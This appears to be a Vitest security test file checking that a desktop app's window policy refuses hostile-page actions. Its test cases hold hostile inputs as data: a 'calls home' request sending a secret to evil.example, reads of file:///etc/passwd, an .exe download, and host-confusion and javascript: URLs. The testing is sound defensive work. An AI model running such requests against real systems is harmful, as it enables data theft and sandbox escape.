import { describe, expect, it } from 'vitest';
import { desktop, own, type Page } from '../../e2e/fixtures/desktop.ts';
import type { Refusals } from './windowPolicy.ts';

describe('F57: a hostile page', () => {
  const escapes: [string, keyof Refusals, (page: Page) => boolean][] = [
    ['navigates to the web', 'navigation', ({ contents }) => contents.tries.navigate('https://evil.example/')],
    ['navigates to a file', 'navigation', ({ contents }) => contents.tries.navigate('file:///etc/passwd')],
    ['navigates to another host of its scheme', 'navigation', ({ contents }) => contents.tries.navigate('app://evil/')],
    ['hides a host behind user info', 'navigation', ({ contents }) => contents.tries.navigate('app://console@evil/')],
    [
      'puts its own host before another',
      'navigation',
      ({ contents }) => contents.tries.navigate('app://console.evil/'),
    ],
    ['runs script by a link', 'navigation', ({ contents }) => contents.tries.navigate('javascript:alert(1)')],
    ['navigates a frame', 'navigation', ({ contents }) => contents.tries.navigateFrame('http://127.0.0.1/')],
    ['is redirected', 'navigation', ({ contents }) => contents.tries.redirect('https://evil.example/')],
    ['opens a window', 'window', ({ contents }) => contents.tries.open('https://evil.example/')],
    ['opens its own page in a window', 'window', ({ contents }) => contents.tries.open(`${own}/`)],
    ['attaches a webview', 'webview', ({ contents }) => contents.tries.webview()],
    ['asks for the camera', 'permission', ({ defaultSession }) => defaultSession.tries.permission('media', `${own}/`)],
    [
      'asks for fullscreen from elsewhere',
      'permission',
      ({ defaultSession }) => defaultSession.tries.permission('fullscreen', 'https://evil.example/'),
    ],
    [
      'checks for geolocation',
      'permission',
      ({ defaultSession }) => defaultSession.tries.permissionCheck('geolocation', own),
    ],
    ['captures the screen', 'capture', ({ defaultSession }) => defaultSession.tries.capture()],
    ['takes a serial device', 'device', ({ defaultSession }) => defaultSession.tries.device('serial', own)],
    ['pairs by bluetooth', 'device', ({ defaultSession }) => defaultSession.tries.pairing()],
    [
      'downloads a program',
      'download',
      ({ defaultSession }) => defaultSession.tries.download('https://evil.example/a.exe'),
    ],
    ['calls home', 'request', ({ defaultSession }) => defaultSession.tries.request('https://evil.example/?secret')],
    ['reads a file', 'request', ({ defaultSession }) => defaultSession.tries.request('file:///etc/passwd')],
    ['opens a socket', 'request', ({ defaultSession }) => defaultSession.tries.request('ws://127.0.0.1:9/')],
    [
      'makes another page’s blob',
      'request',
      ({ defaultSession }) => defaultSession.tries.request('blob:https://evil.example/1'),
    ],
    ['brings contents of its own', 'contents', ({ foreignContents }) => !foreignContents('webview').isClosed],
  ];

  it.each(escapes)('%s: refused and counted', async (_, kind, escape) => {
    const page = await desktop();
    const succeeded = escape(page);
    expect({ succeeded, counted: page.refusals[kind] }).toEqual({ succeeded: false, counted: 1 });
  });

  it.each(escapes)('%s, control: without that protection it succeeds', async (_, refusal, escape) => {
    expect(escape(await desktop({ refusal }))).toBe(true);
  });

  it('an honest page moves within itself, fills the screen and saves its exports', async () => {
    const { contents, defaultSession, refusals } = await desktop();
    expect({
      navigate: contents.tries.navigate(`${own}/?wall=1`),
      fullscreen: defaultSession.tries.permission('fullscreen', `${own}/`),
      request: defaultSession.tries.request(`${own}/assets/app.js`),
      blob: defaultSession.tries.request(`blob:${own}/1`),
      picture: defaultSession.tries.request('data:image/png;base64,AA'),
      save: defaultSession.tries.download(`blob:${own}/2`),
      refused: Object.values(refusals).reduce((sum, count) => sum + count, 0),
    }).toEqual({ navigate: true, fullscreen: true, request: true, blob: true, picture: true, save: true, refused: 0 });
  });
});
